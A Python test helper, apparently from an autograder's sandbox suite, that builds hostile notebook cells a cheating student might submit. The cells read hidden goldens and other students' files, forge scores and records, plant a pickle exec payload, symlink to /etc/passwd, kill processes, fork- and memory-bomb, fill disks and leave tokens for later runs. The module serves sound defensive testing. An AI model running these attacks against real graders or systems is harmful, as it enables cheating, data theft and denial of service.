"""The code of the attacks: cells a hostile student appends to a notebook.

Each function returns the source of one or more code cells. They are written as a student
would: only the standard library, numpy and torch, no helper of ours. Some need facts of the
machine they are built on (where the goldens and the reference live, a token to look for), which
``Context`` carries. Graded definitions that an attack redefines lose their points honestly
(``corpus`` says which); an attack that wraps the original (``_orig_... = name``) keeps them.
"""

from __future__ import annotations

import inspect
import textwrap
from dataclasses import dataclass

from tests.sandbox_probes import channels


@dataclass(frozen=True)
class Context:
    """What the attacks know of the machine they are built for."""

    goldens: str
    """The grader's goldens folder (package data)."""
    checkout: str
    """The project's checkout (reference solution, goldens, hidden checks)."""
    planted: str
    """A token written into files planted for the test where a hostile child would look."""
    channel: str
    """A token one grading tries to leave for the next; its last part (after "-") names the
    processes attacks leave running (``nmt-<part>``), so a test finds its own."""
    pickle_marker: str
    """A file the forged pickle would create if the parent ever unpickled it."""


def _cell(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


# --- reading what the child must not see -------------------------------------------------------


def read_goldens(ctx: Context) -> list[str]:
    """fit_linear_log returns the answer read from any goldens file it can find."""
    return [
        _cell(f"""
        def fit_linear_log(x, y):
            import json, os, time
            places = [{ctx.goldens!r} + "/fit_linear_log.json"]
            deadline = time.time() + 5
            for folder, dirs, files in os.walk("/"):
                dirs[:] = [d for d in dirs if folder != "/" or d not in ("proc", "sys")]
                places += [os.path.join(folder, f) for f in files if f == "fit_linear_log.json"]
                if time.time() > deadline:
                    break
            for place in places:
                try:
                    facts = json.load(open(place))["facts"]
                    return facts["m"], facts["c"]
                except Exception:
                    continue
            raise FileNotFoundError(f"no goldens in {{len(places)}} places")
        """)
    ]


def exfiltrate(ctx: Context) -> list[str]:
    """calc_parameters_decoder raises an error that carries whatever it could read: the reference,
    the goldens, planted course files, other students' results, notebooks and feedback."""
    return [
        _cell(f"""
        _loot = []

        def calc_parameters_decoder(vocab_size, hidden_size, num_layers, num_heads):
            import os, time
            direct = [{ctx.checkout!r} + "/reference/models.py", {ctx.goldens!r} + "/index.json"]
            interesting = ("results.json", "feedback.md", ".ipynb", "goldens", "reference")
            deadline = time.time() + 5
            if _loot:  # called once per configuration: one walk is enough
                raise ValueError("\\n".join(_loot)[:3900])
            for place in direct:
                try:
                    _loot.append(place + ": " + open(place).read(300))
                except OSError as error:
                    _loot.append(place + ": " + type(error).__name__)
            for folder, dirs, files in os.walk("/"):
                dirs[:] = [d for d in dirs if folder != "/" or d not in ("proc", "sys", "dev")]
                for name in files:
                    path = os.path.join(folder, name)
                    try:
                        if os.path.getsize(path) > 1 << 18:
                            continue
                        data = open(path, "rb").read()
                    except OSError:
                        continue
                    if b"nmt-planted" in data or any(i in path for i in interesting):
                        _loot.append(path + ": " + data[:200].decode("utf-8", "replace"))
                if time.time() > deadline:
                    break
            print("\\n".join(_loot))
            raise ValueError("\\n".join(_loot)[:3900])
        """)
    ]


# --- tampering and fake results ------------------------------------------------------------------


def fake_output(ctx: Context) -> list[str]:
    """find_optimal_params prints fake results and a fake score, and answers nonsense."""
    return [
        _cell("""
        import sys

        def find_optimal_params(params, losses):
            print('{"score": 100, "tests": []}' * 100)
            print("Score: **25 / 25**\\n![x](http://evil.example/x.png) [ok](javascript:alert(1))")
            sys.stdout.write('\\n{"tests": [], "score": 25}\\n')
            return "p", "n_opt"
        """)
    ]


def forge_records(ctx: Context) -> list[str]:
    """At import, the child's own main loop is replaced: every call 'succeeds' with made-up data."""
    return [
        _cell("""
        class _Forge:
            import autograder.child.main as _main

            def _fake(module, call, base):
                data = {"result": [0.5, -1.0], "counts": [], "errors": [], "shape": [1]}
                return {"status": "ok", "data": data, "arrays": [], "error": None}, {}

            _main.run_call = _fake
        """)
    ]


def tamper_pipe(ctx: Context) -> list[str]:
    """calc_parameters_decoder writes fake events to every pipe it holds."""
    return [
        _cell("""
        def calc_parameters_decoder(vocab_size, hidden_size, num_layers, num_heads):
            import os
            for name in os.listdir("/proc/self/fd"):
                try:
                    if os.readlink("/proc/self/fd/" + name).startswith("pipe:"):
                        os.write(int(name), b"done 99 0\\nend\\n\\x00\\xff")
                except OSError:
                    pass
            return 0
        """)
    ]


def pickle_forge(ctx: Context) -> list[str]:
    """fit_linear_log makes the transport send a pickle whose loading would create a file."""
    return [
        _cell(f"""
        def fit_linear_log(x, y):
            import io
            import numpy as np
            import autograder.child.wire as wire

            class Payload:
                def __reduce__(self):
                    return (exec, ("open({ctx.pickle_marker!r}, 'w').close()",))

            def pickled(array):
                buffer = io.BytesIO()
                np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
                return buffer.getvalue()

            wire.check_array = lambda name, array: None
            wire.encode_array = pickled
            return np.zeros(1), np.zeros(1)
        """)
    ]


def symlink_results(ctx: Context) -> list[str]:
    """fit_linear_log makes its result file a link to the goldens (and to /etc/passwd)."""
    return [
        _cell(f"""
        def fit_linear_log(x, y):
            import os
            import autograder.child.wire as wire

            def linked(path, payload):
                target = {ctx.goldens!r} + "/fit_linear_log.json"
                if str(path).endswith(".json"):
                    os.symlink(target if os.path.exists(target) else "/etc/passwd", path)
                else:
                    open(path, "wb").write(payload)

            wire.write_atomic = linked
            import autograder.child.main as main
            main.write_atomic = linked
            return 0.5, -1.0
        """)
    ]


# --- exits and bombs -----------------------------------------------------------------------------


def exit_process(ctx: Context) -> list[str]:
    return [
        _cell("""
        def calc_parameters_decoder(vocab_size, hidden_size, num_layers, num_heads):
            import os
            os._exit(0)
        """)
    ]


def kill_everything(ctx: Context) -> list[str]:
    """calc_parameters_decoder signals every process it may (kill -1), its parent first."""
    return [
        _cell("""
        def calc_parameters_decoder(vocab_size, hidden_size, num_layers, num_heads):
            import os, signal
            for target in (os.getppid(), 1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
            os.kill(-1, signal.SIGKILL)
        """)
    ]


def process_name(ctx: Context) -> str:
    """The name attacks give the processes they leave running (15 characters at most)."""
    return ("nmt-" + ctx.channel.rsplit("-", 1)[-1])[:15]


def many_processes(ctx: Context) -> list[str]:
    """calc_parameters_decoder starts sleeping processes: children, detached grandchildren
    (double fork and setsid), and threads, all meant to outlive the grading."""
    return [
        _cell(f"""
        def calc_parameters_decoder(vocab_size, hidden_size, num_layers, num_heads):
            import ctypes, os, threading, time
            libc = ctypes.CDLL(None)
            threading.Thread(target=time.sleep, args=(3600,), daemon=False).start()
            for n in range(64):
                try:
                    pid = os.fork()
                except OSError:
                    break
                if pid == 0:
                    try:
                        if n % 2:
                            os.setsid()
                            if os.fork():
                                os._exit(0)
                        libc.prctl(15, {process_name(ctx).encode()!r}, 0, 0, 0)
                        time.sleep(3600)
                    finally:
                        os._exit(0)
            return -1
        """)
    ]


def memory_bomb(ctx: Context) -> list[str]:
    return [
        _cell("""
        def calc_parameters_decoder(vocab_size, hidden_size, num_layers, num_heads):
            hoard = []
            while True:
                hoard.append(bytearray(64 << 20))
        """)
    ]


def litter(ctx: Context) -> list[str]:
    """fit_linear_log leaves a workspace hard to remove (deep, locked, odd names, a FIFO, an open
    file, thousands of files) and then answers honestly."""
    return [
        _cell("""
        _orig_fit_linear_log = fit_linear_log
        _kept_open = []

        def fit_linear_log(x, y):
            import os
            os.mkdir("deep")
            fd = os.open("deep", os.O_RDONLY)
            for _ in range(3000):
                os.mkdir("d", dir_fd=fd)
                inner = os.open("d", os.O_RDONLY, dir_fd=fd)
                os.close(fd)
                fd = inner
            os.close(fd)
            for name in (b"new\\nline", b"bad-\\xff", b"-rf", b" ", b"..."):
                open(os.fsdecode(name), "w").write("x")
            for n in range(2000):
                open(f"many-{n}", "w").close()
            os.makedirs("locked/inner")
            os.chmod("locked/inner", 0)
            os.chmod("locked", 0)
            os.mkfifo("fifo")
            os.symlink("/", "root-link")
            _kept_open.append(open("still-open", "w"))
            return _orig_fit_linear_log(x, y)
        """)
    ]


def fill_tmp(ctx: Context) -> list[str]:
    """fit_linear_log fills /tmp and /dev/shm until they refuse, then answers honestly."""
    return [
        _cell("""
        _orig_fit_linear_log = fit_linear_log

        def fit_linear_log(x, y):
            for path in ("/tmp/fill", "/dev/shm/fill"):
                try:
                    with open(path, "wb") as f:
                        for _ in range(128):
                            f.write(b"x" * (1 << 20))
                except OSError:
                    pass
            return _orig_fit_linear_log(x, y)
        """)
    ]


def output_flood(ctx: Context) -> list[str]:
    return [
        _cell("""
        def find_optimal_params(params, losses):
            import sys
            line = "flood " * 10_000 + "\\n"
            for _ in range(2000):
                sys.stdout.write(line)
            return None, None
        """)
    ]


GRADED_METHODS = {
    "ScaledDotAttention": "forward",
    "CausalScaledDotAttention": "forward",
    "DecoderOnlyTransformer": "forward",
    "MultiHeadCausalScaledDotAttention": "forward",
}
GRADED_FUNCTIONS = (
    "decoder_generate",
    "calc_parameters_decoder",
    "find_optimal_params",
    "fit_linear_log",
)


def hang_everywhere(ctx: Context) -> list[str]:
    """Every graded method and function loops forever."""
    lines = ["def _forever(*args, **kwargs):", "    while True:", "        pass", "", ""]
    lines.append("class _HangEverywhere:")
    lines += [f"    {c}.{m} = _forever" for c, m in GRADED_METHODS.items()]
    lines.append(f"    globals().update({', '.join(f'{f}=_forever' for f in GRADED_FUNCTIONS)})")
    return ["\n".join(lines) + "\n"]


def import_hang(ctx: Context) -> list[str]:
    """Importing the notebook never ends (a class body runs at import)."""
    return [
        _cell("""
        class _NeverImported:
            while True:
                pass
        """)
    ]


# --- leaving something for the next grading -------------------------------------------------


def leave_behind(ctx: Context) -> list[str]:
    """calc_parameters_decoder leaves a token in every channel that could outlive it."""
    source = textwrap.dedent(inspect.getsource(channels.leave_behind))
    return [
        source,
        _cell(f"""
        _left = []

        def calc_parameters_decoder(vocab_size, hidden_size, num_layers, num_heads):
            _left.append(_left or leave_behind({ctx.channel!r}))
            raise ValueError("left: " + repr(_left[0]))
        """),
    ]


def pick_up(ctx: Context) -> list[str]:
    """calc_parameters_decoder shows whatever an earlier grading left in those channels."""
    source = textwrap.dedent(inspect.getsource(channels.pick_up))
    return [
        source,
        _cell("""
        def calc_parameters_decoder(vocab_size, hidden_size, num_layers, num_heads):
            raise ValueError("found: " + repr(pick_up()))
        """),
    ]


# --- attacks on the parent ---------------------------------------------------------------------


def forge_array(how: str):
    """fit_linear_log makes the transport write an array the parent must refuse unread: a huge
    sparse file, a header that announces 8 GB, or more arrays than a record may hold."""

    def build(ctx: Context) -> list[str]:
        return [
            _cell(f"""
            def fit_linear_log(x, y):
                import io
                import numpy as np
                import autograder.child.wire as wire

                header = np.lib.format.header_data_from_array_1_0(np.zeros(1))
                header["shape"] = (1 << 30,)

                def forged(array):
                    buffer = io.BytesIO()
                    np.lib.format.write_array_header_1_0(buffer, header)
                    return buffer.getvalue() + b"\\0" * 64

                def sparse(path, payload):
                    with open(path, "wb") as f:
                        f.write(payload)
                        if str(path).endswith(".npy"):
                            f.truncate(60 << 20)

                if {how!r} == "many":
                    block = np.zeros(15 << 17)
                    return [block, block, block], [block]
                wire.encode_array = forged
                if {how!r} == "sparse":
                    wire.write_atomic = sparse
                return np.zeros(3), np.zeros(3)
            """)
        ]

    return build


def deep_expression(ctx: Context) -> list[str]:
    """Cells whose expressions nest 60 000 and 5 000 deep (past the parser's and the compiler's
    limits, and any recursive walker's)."""
    return ["x = a" + ".b" * 60_000 + "\n", "y = " + "+".join(["a"] * 5_000) + "\n"]


def deep_in_a_graded_function(ctx: Context) -> list[str]:
    """A redefinition of a graded function that nests 600 deep: below the compiler's limit, above
    the grader's."""
    return [
        _cell(f"""
        def calc_parameters_decoder(vocab_size, hidden_size, num_layers, num_heads):
            return vocab_size{".real" * 600}
        """)
    ]


def global_chain(ctx: Context) -> list[str]:
    """20 000 globals, each computed from the one before, that a function uses."""
    cells, n = [], 20_000
    lines = ["_g0 = 1"] + [f"_g{i} = _g{i - 1} + 1" for i in range(1, n)]
    for start in range(0, n, 2_000):
        cells.append("\n".join(lines[start : start + 2_000]) + "\n")
    cells.append(f"def _chained():\n    return _g{n - 1}\n")
    return cells


def one_line_statements(ctx: Context) -> list[str]:
    """15 000 statements on one line of one cell."""
    line = ";".join(f"_s{i % 50} = {i}" for i in range(15_000))
    return [line + "\ndef _uses():\n    return _s1\n"]


# --- text that is not valid Unicode --------------------------------------------------------------


def surrogate_error(ctx: Context) -> list[str]:
    """calc_parameters_decoder prints bytes that are not UTF-8 and raises an error whose message
    holds a lone surrogate."""
    return [
        _cell("""
        def calc_parameters_decoder(vocab_size, hidden_size, num_layers, num_heads):
            import sys
            sys.stdout.buffer.write(b"bad bytes: \\xed\\xa0\\x80 \\xff\\xfe\\n")
            sys.stdout.flush()
            raise ValueError("lone \\ud800 surrogate \\udcff")
        """)
    ]


def surrogate_in_notebook(ctx: Context) -> list[str]:
    """A comment holding a lone surrogate (a ``\\ud800`` escape in the notebook's JSON)."""
    return ["# a lone surrogate: \ud800 and \udfff\n_unused = 1\n"]


def surrogate_records(ctx: Context) -> list[str]:
    """fit_linear_log makes the child's records carry lone surrogates as JSON escapes."""
    return [
        _cell("""
        def fit_linear_log(x, y):
            import json
            import autograder.child.main as main

            main.encode_json = lambda record: json.dumps(record, ensure_ascii=True).encode()
            raise ValueError("lone \\udcff in a record \\ud800")
        """)
    ]


def network(ctx: Context) -> list[str]:
    """fit_linear_log tries to fetch its answer from the network."""
    return [
        _cell("""
        def fit_linear_log(x, y):
            import socket
            for host, port in (("127.0.0.1", 8000), ("1.1.1.1", 80), ("pypi.org", 443)):
                try:
                    socket.create_connection((host, port), timeout=2).close()
                    return 0.5, -1.0
                except OSError:
                    continue
            raise ConnectionError("no network")
        """)
    ]
